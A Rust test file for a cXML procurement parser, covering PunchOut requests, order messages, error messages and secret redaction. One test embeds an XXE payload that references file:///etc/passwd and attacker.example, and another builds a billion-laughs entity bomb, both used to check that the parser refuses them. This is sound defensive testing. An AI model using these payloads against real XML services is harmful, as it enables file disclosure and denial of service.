use rust_decimal::Decimal;

use crate::cxml::{
    read, Body, Credential, ItemId, Message, Operation, OperationAllowed, Request, ResponseKind,
    MAX_DEPTH,
};
use crate::{CodecError, Format, Severity};

fn dec(s: &str) -> Decimal {
    s.parse().unwrap_or_else(|e| panic!("{s}: {e}"))
}

fn posr(doc: &crate::cxml::Cxml) -> &crate::cxml::PunchOutSetupRequest {
    match &doc.body {
        Body::Request {
            request: Request::PunchOutSetup(p),
            ..
        } => p,
        other => panic!("expected a PunchOutSetupRequest, got {other:?}"),
    }
}

fn malformed_message(input: &[u8]) -> String {
    match read(input) {
        Err(CodecError::Malformed {
            format, message, ..
        }) => {
            assert_eq!(format, Format::Cxml);
            message
        }
        other => panic!("expected Malformed, got {other:?}"),
    }
}

/// A level-2 `edit` setup request in the shape of the FriendsOfCXML sample, plus aux IDs with
/// surrounding whitespace (verbatim), several From credentials and a zone-less timestamp.
pub(super) const LEVEL2_EDIT: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd">
<cXML payloadID="933695160890" timestamp="2023-04-20T19:23:18" xml:lang="en-US" version="1.2.050">
  <Header>
    <From>
      <Credential domain="NetworkId"><Identity>AN01000000001</Identity></Credential>
      <Credential domain="DUNS"><Identity> 123456789 </Identity></Credential>
    </From>
    <To><Credential domain="DUNS"><Identity>supplier</Identity></Credential></To>
    <Sender>
      <Credential domain="NetworkId">
        <Identity>inbound@platform.example</Identity>
        <SharedSecret>s3cr3t</SharedSecret>
      </Credential>
      <UserAgent>Workchairs cXML Application</UserAgent>
    </Sender>
  </Header>
  <Request deploymentMode="test">
    <PunchOutSetupRequest operation="edit" unknownAttr="x">
      <BuyerCookie>550bce3e592023b2e7b015307f965133</BuyerCookie>
      <Extrinsic name="UserEmail">john-doe@domain.com</Extrinsic>
      <Extrinsic name="CostCenter"> 4711 </Extrinsic>
      <BrowserFormPost><URL>
        https://platform.example/hook-url?a=1&amp;b=2
      </URL></BrowserFormPost>
      <Contact role="endUser"><Name xml:lang="en">Jane</Name><Email>jane@example.com</Email></Contact>
      <SupplierSetup><URL>http://workchairs.com/cxml</URL></SupplierSetup>
      <ShipTo>
        <Address addressID="3119">
          <Name xml:lang="en">Acme</Name>
          <PostalAddress name="default">
            <DeliverTo>Joe Smith</DeliverTo>
            <DeliverTo>Mailstop M-543</DeliverTo>
            <Street>123 Anystreet</Street>
            <City>Sunnyvale</City>
            <State>CA</State>
            <PostalCode>90489</PostalCode>
            <Country isoCountryCode="US">United States</Country>
          </PostalAddress>
          <Email name="default">joe@acme.example</Email>
          <Phone name="work"><TelephoneNumber>
            <CountryCode isoCountryCode="US">1</CountryCode>
            <AreaOrCityCode>800</AreaOrCityCode><Number>5551212</Number>
          </TelephoneNumber></Phone>
        </Address>
      </ShipTo>
      <SelectedItem><ItemID><SupplierPartID>4545321</SupplierPartID><BuyerPartID>II99825</BuyerPartID></ItemID></SelectedItem>
      <ItemOut quantity="2" lineNumber="10">
        <ItemID><SupplierPartID> 5555 </SupplierPartID><SupplierPartAuxiliaryID> E0001 &lt;cfg&gt; </SupplierPartAuxiliaryID></ItemID>
        <ItemDetail>
          <UnitPrice><Money currency="EUR">763.20</Money></UnitPrice>
          <Description xml:lang="en"><ShortName>Excelsior</ShortName>Excelsior Desk Chair, B&#252;ro</Description>
          <UnitOfMeasure>EA</UnitOfMeasure>
          <Classification domain="UNSPSC">56101504</Classification>
          <ManufacturerPartID>M-1</ManufacturerPartID>
          <ManufacturerName>Chairs Inc</ManufacturerName>
          <LeadTime>12</LeadTime>
        </ItemDetail>
      </ItemOut>
      <ItemOut quantity="1.5">
        <ItemID><SupplierPartID>6666</SupplierPartID></ItemID>
      </ItemOut>
    </PunchOutSetupRequest>
  </Request>
</cXML>"#;

#[test]
fn reads_a_level2_edit_setup_request() {
    let r = read(LEVEL2_EDIT.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        r.issues.iter().all(|i| i.severity == Severity::Warning),
        "{:?}",
        r.issues
    );
    let doc = &r.doc;
    assert_eq!(doc.payload_id, "933695160890");
    assert_eq!(doc.version.as_deref(), Some("1.2.050"));
    assert_eq!(doc.timestamp.as_deref(), Some("2023-04-20T19:23:18"));
    assert_eq!(doc.lang.as_deref(), Some("en-US"));
    let h = doc.header.as_ref().unwrap_or_else(|| panic!("header"));
    assert_eq!(h.from.len(), 2);
    assert_eq!(h.from[1], Credential::new("DUNS", "123456789"));
    assert_eq!(h.sender[0].shared_secret.as_deref(), Some("s3cr3t"));
    assert_eq!(h.user_agent.as_deref(), Some("Workchairs cXML Application"));
    let Body::Request {
        deployment_mode, ..
    } = &doc.body
    else {
        panic!("request")
    };
    assert_eq!(deployment_mode.as_deref(), Some("test"));

    let p = posr(doc);
    assert_eq!(p.operation, Operation::Edit);
    assert_eq!(p.buyer_cookie, "550bce3e592023b2e7b015307f965133");
    assert_eq!(
        p.extrinsics,
        vec![
            ("UserEmail".to_owned(), "john-doe@domain.com".to_owned()),
            ("CostCenter".to_owned(), "4711".to_owned())
        ]
    );
    assert_eq!(p.extrinsic("useremail"), Some("john-doe@domain.com"));
    assert_eq!(
        p.browser_form_post.as_deref(),
        Some("https://platform.example/hook-url?a=1&b=2")
    );
    assert_eq!(
        p.supplier_setup.as_deref(),
        Some("http://workchairs.com/cxml")
    );
    assert_eq!(p.contacts.len(), 1);
    assert_eq!(p.contacts[0].role.as_deref(), Some("endUser"));
    assert_eq!(p.contacts[0].email.as_deref(), Some("jane@example.com"));

    let ship = p.ship_to.as_ref().unwrap_or_else(|| panic!("ship_to"));
    assert_eq!(ship.name.as_deref(), Some("Acme"));
    assert_eq!(ship.identifier("buyer_assigned"), Some("3119"));
    assert_eq!(
        ship.address_lines,
        vec!["Joe Smith", "Mailstop M-543", "123 Anystreet"]
    );
    assert_eq!(ship.city.as_deref(), Some("Sunnyvale"));
    assert_eq!(ship.region.as_deref(), Some("CA"));
    assert_eq!(ship.postal_code.as_deref(), Some("90489"));
    assert_eq!(ship.country.as_deref(), Some("US"));
    assert_eq!(ship.contacts[0].name.as_deref(), Some("Joe Smith"));
    assert_eq!(ship.contacts[0].email.as_deref(), Some("joe@acme.example"));
    assert_eq!(ship.contacts[0].phone.as_deref(), Some("+1 800 5551212"));

    assert_eq!(
        p.selected_item,
        Some(ItemId {
            supplier_part_id: "4545321".into(),
            supplier_part_aux_id: None,
            buyer_part_id: Some("II99825".into()),
        })
    );
    assert_eq!(p.items.len(), 2);
    let a = &p.items[0];
    assert_eq!(a.quantity, dec("2"));
    assert_eq!(a.line_number, Some(10));
    assert_eq!(a.item_id.supplier_part_id, "5555");
    assert_eq!(
        a.item_id.supplier_part_aux_id.as_deref(),
        Some(" E0001 <cfg> "),
        "aux id is verbatim"
    );
    assert_eq!(a.unit_price, Some(dec("763.20")));
    assert_eq!(a.currency.as_deref(), Some("EUR"));
    assert_eq!(a.description.as_deref(), Some("Excelsior Desk Chair, Büro"));
    assert_eq!(a.short_name.as_deref(), Some("Excelsior"));
    assert_eq!(a.unit_of_measure.as_deref(), Some("EA"));
    assert_eq!(
        a.classification,
        vec![("UNSPSC".to_owned(), "56101504".to_owned())]
    );
    assert_eq!(a.manufacturer_part_id.as_deref(), Some("M-1"));
    assert_eq!(a.manufacturer_name.as_deref(), Some("Chairs Inc"));
    assert_eq!(a.lead_time, Some(12));
    let b = &p.items[1];
    assert_eq!(b.quantity, dec("1.5"));
    assert_eq!(b.line_number, None);
    assert_eq!(b.item_id.supplier_part_aux_id, None);
    assert_eq!(b.unit_price, None);
}

/// The Coupa setup request (officeluv fixture), inline.
pub(super) const COUPA: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
<cXML payloadID="1211221788.71299@ip-10-251-122-83" timestamp="Mon May 19 18:29:48 +0000 2008" xml:lang="en-US">
<Header>
<From><Credential domain="DUNS"><Identity>coupa-t</Identity></Credential></From>
<To><Credential domain="DUNS"><Identity>coupa-t</Identity></Credential></To>
<Sender><Credential domain="DUNS"><Identity>coupa-t</Identity><SharedSecret>test</SharedSecret></Credential>
<UserAgent>Coupa Procurement 1.0</UserAgent></Sender>
</Header>
<Request>
<PunchOutSetupRequest operation="create">
<BuyerCookie>c64af92dc27e68172e030d3dfd1bc944</BuyerCookie>
<Extrinsic name="FirstName">Jim</Extrinsic>
<Extrinsic name="UserEmail">noah+jim@coupa.com</Extrinsic>
<Contact role="endUser"><Name xml:lang="en-US">jim</Name><Email>noah+jim@coupa.com</Email></Contact>
<BrowserFormPost><URL>https://qa.coupahost.com/punchout/checkout/4</URL></BrowserFormPost>
</PunchOutSetupRequest>
</Request>
</cXML>
"#;

#[test]
fn reads_the_coupa_setup_request() {
    let r = read(COUPA.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    let p = posr(&r.doc);
    assert_eq!(p.operation, Operation::Create);
    assert_eq!(p.buyer_cookie, "c64af92dc27e68172e030d3dfd1bc944");
    assert_eq!(p.extrinsic("UserEmail"), Some("noah+jim@coupa.com"));
    assert_eq!(
        p.browser_form_post.as_deref(),
        Some("https://qa.coupahost.com/punchout/checkout/4")
    );
    assert_eq!(p.contacts[0].name.as_deref(), Some("jim"));
    assert!(p.selected_item.is_none());
    assert!(p.items.is_empty());
}

#[test]
fn xxe_is_never_expanded_and_is_reported() {
    let doc = br#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://attacker.example/x.dtd">
]>
<cXML payloadID="x@y" timestamp="2023-01-01T00:00:00+00:00">
  <Header>
    <From><Credential domain="a"><Identity>&xxe;</Identity></Credential></From>
    <To><Credential domain="a"><Identity>b</Identity></Credential></To>
    <Sender><Credential domain="a"><Identity>c</Identity></Credential><UserAgent>u</UserAgent></Sender>
  </Header>
  <Request><PunchOutSetupRequest operation="create">
    <BuyerCookie>before&xxe;after</BuyerCookie>
    <Extrinsic name="n&remote;">v</Extrinsic>
  </PunchOutSetupRequest></Request>
</cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    let p = posr(&r.doc);
    assert_eq!(p.buyer_cookie, "beforeafter");
    assert_eq!(p.extrinsics[0].0, "n");
    let from = &r
        .doc
        .header
        .as_ref()
        .unwrap_or_else(|| panic!("header"))
        .from[0];
    assert_eq!(from.identity, "");
    let text = format!("{:?}", r.doc);
    assert!(!text.contains("root:"), "nothing from /etc/passwd");
    let entity_errors: Vec<_> = r
        .issues
        .iter()
        .filter(|i| i.severity == Severity::Error && i.message.contains("was not expanded"))
        .collect();
    assert_eq!(entity_errors.len(), 3, "{:?}", r.issues);
    assert!(entity_errors[0].message.contains("&xxe;"));
    assert_eq!(
        entity_errors[1].location.path.as_deref(),
        Some("/cXML/Request/PunchOutSetupRequest/BuyerCookie")
    );
    assert!(r
        .issues
        .iter()
        .any(|i| i.message.contains("internal subset ignored")));
}

#[test]
fn billion_laughs_stays_small() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE cXML [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n<cXML payloadID=\"p\" timestamp=\"t\"><Response><Status code=\"200\" text=\"OK\">&lol9;</Status></Response></cXML>");
    let r = read(doc.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let Body::Response { status, .. } = &r.doc.body else {
        panic!("response")
    };
    assert_eq!(status.message, "");
    assert!(r.issues.iter().any(|i| i.message.contains("&lol9;")));
}

#[test]
fn predefined_entities_and_character_references_are_decoded() {
    let doc = br#"<cXML payloadID="a&amp;b&#x41;&#66;" timestamp="2023-01-01"><Response><Status code="200" text="&lt;OK&gt;">&quot;x&apos; &#252; &#x1F600;</Status></Response></cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(r.doc.payload_id, "a&bAB");
    let Body::Response { status, response } = &r.doc.body else {
        panic!("response")
    };
    assert_eq!(status.code, 200);
    assert_eq!(status.text, "<OK>");
    assert_eq!(status.message, "\"x' ü 😀");
    assert!(status.is_success());
    assert!(response.is_none());
}

#[test]
fn accepts_a_utf8_bom_and_reports_offsets_of_the_original_input() {
    let mut doc = b"\xEF\xBB\xBF".to_vec();
    doc.extend_from_slice(COUPA.as_bytes());
    let r = read(&doc).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        posr(&r.doc).buyer_cookie,
        "c64af92dc27e68172e030d3dfd1bc944"
    );

    let bad = b"\xEF\xBB\xBF<cXML payloadID=\"p\"><Response></cXML>";
    match read(bad) {
        Err(CodecError::Malformed {
            location, message, ..
        }) => {
            assert!(
                message.starts_with("XML is not well-formed at byte"),
                "{message}"
            );
            let off = location.offset.unwrap_or_default();
            assert!(off >= 3 && off <= bad.len(), "{off}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn precise_malformed_messages() {
    assert_eq!(
        malformed_message(b"<Foo payloadID='x'/>"),
        "expected root element cXML, found Foo"
    );
    assert_eq!(
        malformed_message(
            b"<cXML timestamp='x'><Response><Status code='200' text='OK'/></Response></cXML>"
        ),
        "missing payloadID attribute on cXML"
    );
    let m = malformed_message(b"<cXML payloadID='x'>\n<Response></Statu></cXML>");
    assert!(m.starts_with("XML is not well-formed at byte "), "{m}");
    let m = malformed_message(b"<cXML payloadID='x'><Response>");
    assert!(m.contains("not closed"), "{m}");
    let m = malformed_message(b"");
    assert!(m.contains("no root element"), "{m}");
    let m = malformed_message(b"<cXML payloadID='x'/><cXML/>");
    assert!(m.contains("after the root element"), "{m}");
    let m = malformed_message(b"<cXML payloadID='x' payloadID='y'/>");
    assert!(m.contains("duplicate attribute"), "{m}");
    let m = malformed_message(b"<cXML payloadID='x'>\xC3\x28</cXML>");
    assert!(m.contains("not valid UTF-8 at byte 20"), "{m}");
    let m = malformed_message(b"\xFF\xFE<\0c\0");
    assert!(m.contains("UTF-16"), "{m}");
    let m = malformed_message(b"<cXML payloadID='x'></cXML>");
    assert_eq!(m, "cXML contains no Request, Message or Response");
    let m = malformed_message(b"<cXML payloadID='x'><Response/></cXML>");
    assert_eq!(m, "Response has no Status");
    let m = malformed_message(b"<cXML payloadID='x'><Request/></cXML>");
    assert_eq!(m, "Request contains no request element");
    let m = malformed_message(b"<cXML payloadID='x'>a & b</cXML>");
    assert!(m.starts_with("XML is not well-formed"), "{m}");
}

#[test]
fn nesting_is_limited() {
    let depth = MAX_DEPTH + 1;
    let mut doc = String::from("<cXML payloadID='x'><Response><Status code='200' text='OK'/>");
    let inner = depth - 2;
    doc.push_str(&"<a>".repeat(inner));
    doc.push_str(&"</a>".repeat(inner));
    doc.push_str("</Response></cXML>");
    let m = malformed_message(doc.as_bytes());
    assert!(m.contains("nested deeper than 64"), "{m}");

    let mut ok = String::from("<cXML payloadID='x'><Response><Status code='200' text='OK'/>");
    let inner = MAX_DEPTH - 2;
    ok.push_str(&"<a>".repeat(inner));
    ok.push_str(&"</a>".repeat(inner));
    ok.push_str("</Response></cXML>");
    assert!(read(ok.as_bytes()).is_ok());
}

#[test]
fn other_requests_are_named_for_a_450_answer() {
    let doc = br#"<cXML payloadID="p" timestamp="2023-01-01T00:00:00+00:00"><Header>
<From><Credential domain="a"><Identity>b</Identity></Credential></From>
<To><Credential domain="a"><Identity>b</Identity></Credential></To>
<Sender><Credential domain="a"><Identity>b</Identity></Credential><UserAgent>u</UserAgent></Sender>
</Header><Request><StatusUpdateRequest><Status code="200" text="OK"/></StatusUpdateRequest></Request></cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    match &r.doc.body {
        Body::Request { request, .. } => {
            assert_eq!(
                request,
                &Request::Other {
                    name: "StatusUpdateRequest".into()
                }
            );
            assert_eq!(request.name(), "StatusUpdateRequest");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn missing_pieces_are_issues_not_failures() {
    let doc = br#"<cXML payloadID="p"><Request><PunchOutSetupRequest><Extrinsic name="x">y</Extrinsic></PunchOutSetupRequest></Request></cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    let p = posr(&r.doc);
    assert_eq!(p.operation, Operation::Other(String::new()));
    assert_eq!(p.buyer_cookie, "");
    let msgs: Vec<&str> = r.issues.iter().map(|i| i.message.as_str()).collect();
    for expected in [
        "Missing timestamp attribute on cXML",
        "Request without Header",
        "PunchOutSetupRequest has no operation attribute",
        "Missing BuyerCookie",
    ] {
        assert!(msgs.contains(&expected), "{expected} not in {msgs:?}");
    }
}

#[test]
fn buyer_cookie_with_elements_keeps_inner_text_verbatim() {
    let doc = br#"<cXML payloadID="p" timestamp="2023-01-01"><Request><PunchOutSetupRequest operation="inspect"><BuyerCookie> a<x>b<y>c</y></x>d </BuyerCookie></PunchOutSetupRequest></Request></cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    let p = posr(&r.doc);
    assert_eq!(p.operation, Operation::Inspect);
    assert_eq!(p.buyer_cookie, " abcd ");
    assert!(r
        .issues
        .iter()
        .any(|i| i.message.contains("contains elements")));
}

#[test]
fn reads_a_punchout_order_message() {
    let doc = br#"<?xml version="1.0"?>
<cXML payloadID="933695160894" timestamp="2002-08-15T08:47:00-07:00" xml:lang="en-US">
  <Header>
    <From><Credential domain="DUNS"><Identity>83528721</Identity></Credential></From>
    <To><Credential domain="DUNS"><Identity>65652314</Identity></Credential></To>
    <Sender><Credential domain="workchairs.com"><Identity>website 1</Identity></Credential><UserAgent>W</UserAgent></Sender>
  </Header>
  <Message>
    <PunchOutOrderMessage>
      <BuyerCookie>1CX3L4843PPZO</BuyerCookie>
      <PunchOutOrderMessageHeader operationAllowed="edit"><Total><Money currency="USD">763.20</Money></Total></PunchOutOrderMessageHeader>
      <ItemIn quantity="3">
        <ItemID><SupplierPartID>5555</SupplierPartID><SupplierPartAuxiliaryID>E000028901</SupplierPartAuxiliaryID></ItemID>
        <ItemDetail>
          <UnitPrice><Money currency="USD">254.40</Money></UnitPrice>
          <Description xml:lang="en"><ShortName>Excelsior Desk Chair</ShortName>Leather Reclining Desk Chair</Description>
          <UnitOfMeasure>EA</UnitOfMeasure>
          <Classification domain="UNSPSC">5136030000</Classification>
          <LeadTime>12</LeadTime>
          <Extrinsic name="color">red</Extrinsic>
        </ItemDetail>
      </ItemIn>
    </PunchOutOrderMessage>
  </Message>
</cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    let Body::Message {
        message: Message::PunchOutOrder(m),
        status,
        ..
    } = &r.doc.body
    else {
        panic!("{:?}", r.doc.body)
    };
    assert!(status.is_none());
    assert_eq!(m.buyer_cookie, "1CX3L4843PPZO");
    assert_eq!(m.operation_allowed, Some(OperationAllowed::Edit));
    assert_eq!(m.total, Some(dec("763.20")));
    assert_eq!(m.currency.as_deref(), Some("USD"));
    assert_eq!(m.items.len(), 1);
    assert_eq!(
        m.items[0].description.as_deref(),
        Some("Leather Reclining Desk Chair")
    );
    assert_eq!(
        m.items[0].extrinsics,
        vec![("color".to_owned(), "red".to_owned())]
    );

    let (cart, issues) = m.to_cart();
    assert!(issues.is_empty(), "{issues:?}");
    assert_eq!(cart.buyer_cookie, "1CX3L4843PPZO");
    assert_eq!(cart.currency.as_ref().map(|c| c.as_str()), Some("USD"));
    assert_eq!(
        cart.items[0].supplier_part_aux_id.as_deref(),
        Some("E000028901")
    );
    assert_eq!(
        cart.items[0].unit_of_measure.as_ref().map(|u| u.as_str()),
        Some("EA")
    );
    assert_eq!(cart.items[0].lead_time_days, Some(12));
}

#[test]
fn reads_a_setup_response_and_status_with_unknown_attributes() {
    let doc = br#"<cXML xml:lang="en-US" payloadID="test-id" timestamp="2020-09-10T20:32:26+00:00">
  <Response invalid="invalid"><Status code="200" text="Ok">123456</Status>
  <PunchOutSetupResponse><StartPage><URL> https://shop.example/start?t=1 </URL></StartPage></PunchOutSetupResponse>
  </Response></cXML>"#;
    let r = read(doc).unwrap_or_else(|e| panic!("{e}"));
    let Body::Response { status, response } = &r.doc.body else {
        panic!("response")
    };
    assert_eq!(
        (status.code, status.text.as_str(), status.message.as_str()),
        (200, "Ok", "123456")
    );
    assert_eq!(
        response,
        &Some(ResponseKind::PunchOutSetup {
            start_page_url: "https://shop.example/start?t=1".into()
        })
    );
}

#[test]
fn credential_debug_redacts_the_secret() {
    let c = Credential {
        domain: "NetworkID".into(),
        identity: "AN01".into(),
        shared_secret: Some("hunter2".into()),
    };
    let dbg = format!("{c:?}");
    assert!(!dbg.contains("hunter2"), "{dbg}");
    assert!(dbg.contains("<redacted>"), "{dbg}");
    let r = read(LEVEL2_EDIT.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(!format!("{r:?}").contains("s3cr3t"));
}
